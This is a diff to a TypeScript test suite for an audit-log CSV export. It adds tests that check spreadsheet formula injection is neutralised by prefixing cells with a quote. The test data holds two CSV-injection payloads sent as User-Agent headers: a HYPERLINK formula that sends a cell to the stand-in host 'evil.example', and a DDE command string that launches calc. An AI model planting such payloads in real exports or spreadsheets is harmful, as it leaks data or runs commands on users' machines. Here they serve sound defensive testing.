@@ -136,6 +136,22 @@ describe('audit export', () => {
     });
   });
 
+  it("prefixes with ' every CSV cell a spreadsheet would run, from a request’s User-Agent", async () => {
+    const from = new Date().toISOString();
+    const agent = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")';
+    await api
+      .http()
+      .post('/v1/auth/login')
+      .set('user-agent', agent)
+      .send({ email: 'nobody@example.com', password: 'not-the-password' })
+      .expect(401);
+    const response = await exportOf({ format: 'csv', from }).expect(200);
+    const [header, ...rows] = parseCsv(response.text);
+    const userAgents = rows.map((row) => row[header.indexOf('userAgent')]);
+    expect(userAgents).toContain(`'${agent}`);
+    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+  });
+
   it('refuses an unknown format, a bad date and from after to (400)', async () => {
     await exportOf({ format: 'xml' }).expect(400);
     await exportOf({ from: 'soon' }).expect(400);
@@ -182,6 +198,7 @@ describe('audit export', () => {
 });
 
 describePostgres('audit ops commands, without the HTTP server', () => {
+  const HOSTILE_AGENT = '@SUM(1+1)*cmd|" /C calc"!A0';
   let env: TestEnvironment;
   let api: TestInstance;
   let dataDir: string;
@@ -191,6 +208,12 @@ describePostgres('audit ops commands, without the HTTP server', () => {
     env = await TestEnvironment.create();
     api = await env.start();
     await login(api, { email: ADMIN_EMAIL, password: ADMIN_PASSWORD });
+    await api
+      .http()
+      .post('/v1/auth/login')
+      .set('user-agent', HOSTILE_AGENT)
+      .send({ email: ADMIN_EMAIL, password: 'not-the-password' })
+      .expect(401);
     await api.app.get(AuditSealer).seal();
     dataDir = await mkdtemp(join(tmpdir(), 'bastion-cli-'));
     cliEnv = {
@@ -243,6 +266,10 @@ describePostgres('audit ops commands, without the HTTP server', () => {
     );
     const csv = await readFile(file, 'utf8');
     expect(csv.startsWith('id,seq,occurredAt,')).toBe(true);
+    const [header, ...rows] = parseCsv(csv);
+    const userAgents = rows.map((row) => row[header.indexOf('userAgent')]);
+    expect(userAgents).toContain(`'${HOSTILE_AGENT}`);
+    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
     const [{ exports }] = await api.dataSource.query(
       `SELECT count(*)::int AS exports FROM audit_events WHERE action = 'audit.exported'`,
     );
